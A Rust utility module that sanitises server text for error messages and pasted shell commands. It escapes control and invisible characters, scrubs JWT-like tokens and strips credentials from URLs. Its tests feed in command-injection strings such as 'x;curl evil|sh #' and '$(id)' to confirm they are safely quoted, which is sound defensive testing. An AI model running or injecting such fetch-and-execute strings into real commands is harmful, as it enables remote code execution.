//! Text from elsewhere, made fit to show or to paste; errors with their causes.

use std::error::Error;
use std::sync::Arc;

/// The most of a remote text that reaches an error, in bytes.
const REMOTE_TEXT_LIMIT: usize = 200;

/// Cuts a text from a server to 200 bytes, escapes control characters and takes out anything
/// shaped like a token, so that it can stand in an error message.
pub fn escape_remote(text: &str) -> String {
    let text = scrub(text.trim());
    let mut shown = String::new();
    for character in text.chars() {
        let before = shown.len();
        push_escaped(&mut shown, character);
        if shown.len() > REMOTE_TEXT_LIMIT {
            shown.truncate(before);
            shown.push('…');
            break;
        }
    }
    shown
}

/// Escapes what could move the cursor, reorder a line, end it, or hide in it: control characters (C0
/// and C1), bidirectional controls, line and paragraph separators, characters that are not seen.
/// Nothing is cut or taken out.
pub fn escape(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    text.chars().for_each(|character| push_escaped(&mut shown, character));
    shown
}

/// `json`, a JSON text, with the characters that [`escape`] changes written as JSON escapes them.
pub fn escape_json(json: &str) -> String {
    let mut shown = String::with_capacity(json.len());
    for character in json.chars() {
        if is_unsafe(character) {
            let mut units = [0; 2];
            for unit in character.encode_utf16(&mut units) {
                shown.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            shown.push(character);
        }
    }
    shown
}

/// `text` as one word of a POSIX shell, for a command that is offered for pasting; `None` when it
/// holds characters that [`escape`] would change: such a text must not be pasted.
pub fn shell_quote(text: &str) -> Option<String> {
    if text.chars().any(is_unsafe) {
        return None;
    }
    shlex::try_quote(text).ok().map(std::borrow::Cow::into_owned)
}

/// `url` without what may be secret in it, for errors and logs: no user, password, query or fragment.
pub fn public_url(url: &str) -> String {
    let url = url.split(['?', '#']).next().unwrap_or_default();
    let (scheme, rest) = match url.split_once("://") {
        Some((scheme, rest)) => (format!("{scheme}://"), rest),
        // Only an authority, as a proxy is asked for, may hold credentials without a scheme.
        None => (String::new(), url),
    };
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    format!("{scheme}{host}{path}")
}

/// `error` as a `T`, also where it is in a `Box` or an `Arc`.
pub fn error_as<'a, T: Error + 'static>(error: &'a (dyn Error + 'static)) -> Option<&'a T> {
    error
        .downcast_ref::<T>()
        .or_else(|| error.downcast_ref::<Box<T>>().map(|boxed| &**boxed))
        .or_else(|| error.downcast_ref::<Arc<T>>().map(|shared| &**shared))
}

/// `error` and its causes, each in its own words, outermost first.
pub fn causes(error: &dyn Error) -> Vec<String> {
    let mut texts = vec![error.to_string()];
    let mut cause = error.source();
    while let Some(error) = cause {
        texts.push(error.to_string());
        cause = error.source();
    }
    texts
}

/// `error` and its causes in one line: `what failed: why: why that`.
pub fn with_causes(error: &dyn Error) -> String {
    causes(error).join(": ")
}

/// Replaces everything in `text` that is shaped like a JWT by `[token]`.
///
/// A JWT's header and payload are JSON objects, so their base64url starts with `ey`, or with `ew`
/// where a line break or a tab follows the brace.
pub fn scrub(text: &str) -> String {
    let in_token = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '=');
    let mut clean = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = object_in(rest) {
        let (before, candidate) = rest.split_at(start);
        clean.push_str(before);
        let end = candidate.find(|c| !in_token(c)).unwrap_or(candidate.len());
        let (word, after) = candidate.split_at(end);
        let parts = word.split('.').count();
        let two = OBJECTS.iter().any(|object| word.contains(&format!(".{object}")));
        if parts >= 2 && two || parts == 1 && word.len() > 60 {
            clean.push_str("[token]");
        } else {
            clean.push_str(word);
        }
        rest = after;
    }
    clean.push_str(rest);
    clean
}

/// Where the first JSON object in base64url may start. Looks no further than there, so that a text of
/// many costs time in its length only.
fn object_in(text: &str) -> Option<usize> {
    let starts = |at: &usize| {
        let rest = text.get(*at..).unwrap_or_default();
        OBJECTS.iter().any(|object| rest.starts_with(object))
    };
    text.match_indices('e').map(|(at, _)| at).find(starts)
}

/// How a JSON object starts in base64url: with a quotation mark or a space after its brace, a line
/// feed, a carriage return, a tab.
const OBJECTS: [&str; 4] = ["ey", "ewo", "ew0", "ewk"];

fn push_escaped(shown: &mut String, character: char) {
    if is_unsafe(character) {
        shown.extend(character.escape_default());
    } else {
        shown.push(character);
    }
}

/// Whether `character` acts on a terminal, or is not seen, instead of standing in the line: two names
/// that differ in such a character only look the same.
pub fn is_unsafe(character: char) -> bool {
    let reorders = matches!(character,
        '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let hides = matches!(character,
        '\u{ad}' | '\u{34f}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{206f}' | '\u{3164}'
        | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}'
        | '\u{e0000}'..='\u{e0fff}');
    character.is_control() || reorders || hides || matches!(character, '\u{2028}' | '\u{2029}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_url_is_shown_without_its_user_query_and_fragment() {
        for (url, shown) in [
            ("https://me:secret@log.example:8443/api?key=secret#x", "https://log.example:8443/api"),
            ("https://log.example?a=https://me@b/", "https://log.example"),
            ("http://[::1]:3000/a@b", "http://[::1]:3000/a@b"),
            ("/path?key=secret", "/path"),
            ("me:secret@log.example:443", "log.example:443"),
            ("https://me:se@cret@log.example/", "https://log.example/"),
        ] {
            assert_eq!(public_url(url), shown);
        }
    }

    #[test]
    fn a_token_inside_a_text_is_taken_out() {
        let text = "bad token eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.c2ln, try again";
        assert_eq!(scrub(text), "bad token [token], try again");
    }

    #[test]
    fn a_token_of_pretty_printed_json_is_taken_out_too() {
        // {\n  "alg"..., {\r\n "sub"... and {\t"sub"...
        let text = "bad ewogICJhbGciOiAibm9uZSIKfQ.ew0KICJzdWIiOiAieCIKfQ.c2ln and ewkic3ViIjoieCJ9.ewog.x.";
        assert_eq!(scrub(text), "bad [token] and [token]");
        assert_eq!(scrub("renew.example ewe.example.com"), "renew.example ewe.example.com");
    }

    #[test]
    fn a_half_token_without_its_signature_is_taken_out_too() {
        assert_eq!(scrub("eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0"), "[token]");
    }

    #[test]
    fn ordinary_words_stay() {
        assert_eq!(scrub("they keyed honey.example eye"), "they keyed honey.example eye");
    }

    #[test]
    fn remote_text_is_cut_and_cannot_move_the_cursor() {
        let shown = escape_remote(&format!("\u{1b}[2J{}", "x".repeat(500)));
        assert!(shown.starts_with("\\u{1b}[2Jxx"), "{shown}");
        assert!(shown.len() <= REMOTE_TEXT_LIMIT + '…'.len_utf8(), "{}", shown.len());
    }

    #[test]
    fn c1_bidirectional_and_line_controls_are_escaped_and_nothing_is_cut() {
        let text = "a\u{9b}2J\u{202e}b\u{2028}\u{61c}\n";
        assert_eq!(escape(text), "a\\u{9b}2J\\u{202e}b\\u{2028}\\u{61c}\\n");
        let long = "é".repeat(500);
        assert_eq!(escape(&long), long);
    }

    #[test]
    fn json_without_controls_is_the_same_json() {
        assert_eq!(escape_json("{\"a\":\"\u{9b}2J\u{202e}é\"}"), r#"{"a":"\u009b2J\u202eé"}"#);
    }

    #[test]
    fn characters_that_are_not_seen_are_escaped_so_that_two_names_never_look_the_same() {
        for hidden in
            ['\u{ad}', '\u{200b}', '\u{200d}', '\u{2060}', '\u{feff}', '\u{3164}', '\u{e0041}']
        {
            let name = format!("https://github.com/ac{hidden}me/app");
            let code = u32::from(hidden);
            let shown = format!("https://github.com/ac\\u{{{code:x}}}me/app");
            assert_eq!(escape(&name), shown);
            assert_eq!(escape_remote(&name), shown);
            assert_eq!(shell_quote(&name), None);
        }
        assert_eq!(escape("grün 日本 🦀 é"), "grün 日本 🦀 é");
    }

    /// Every `ey` made the search for the other spellings run through all that was left: a minute for
    /// these, half an hour for four megabytes.
    #[test]
    #[expect(clippy::disallowed_methods, reason = "it measures how long the work takes")]
    fn a_text_full_of_what_may_be_tokens_is_scrubbed_in_time_of_its_length() {
        let started = std::time::Instant::now();
        for piece in ["ey ", "ewo ", "e", "ey. ", "ew", "eyJ.eyJ "] {
            let text = piece.repeat((512 << 10) / piece.len());
            assert!(escape_remote(&text).len() <= 203, "{piece}");
        }
        assert!(started.elapsed().as_secs() < 100, "{:?}", started.elapsed());
    }

    #[test]
    fn what_is_pasted_is_one_word_or_nothing() {
        assert_eq!(shell_quote("ghcr.io/acme/app").as_deref(), Some("ghcr.io/acme/app"));
        for text in ["x;curl evil|sh #", "$(id)", "a'b", "", "a b"] {
            let quoted = shell_quote(text).unwrap();
            assert_eq!(shlex::split(&quoted).unwrap(), [text], "{quoted}");
        }
        for text in ["a\nb", "a\u{1b}b", "a\u{202e}b", "a\0b"] {
            assert_eq!(shell_quote(text), None, "{text:?}");
        }
    }

    #[test]
    fn causes_follow_their_error() {
        let inner = std::io::Error::other("the disk is on fire");
        let path = std::path::PathBuf::from("/x");
        let error = crate::FileError::Io { path, source: Arc::new(inner) };
        assert_eq!(with_causes(&error), "/x could not be read: the disk is on fire");
    }
}
